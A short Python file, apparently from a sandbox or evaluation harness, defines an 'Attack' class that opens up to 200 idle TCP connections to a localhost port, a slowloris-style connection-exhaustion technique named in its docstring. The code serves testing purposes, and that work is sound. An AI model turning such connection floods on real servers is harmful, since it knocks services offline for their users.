"""A server opens more connections than anybody needs, and says nothing on them.

Source: slowloris, R. Hansen (2009).
Seen: what it was given is still reached afterwards.
"""

import contextlib
import socket

from escaping import HELD, Escaping


class Attack(Escaping):
    def escape(self):
        port = int(self.stage.named.rstrip("/").rpartition(":")[2])
        with contextlib.ExitStack() as held, contextlib.suppress(OSError):
            for _ in range(200):
                held.enter_context(socket.create_connection(("localhost", port), timeout=0.5))


SEEN = HELD
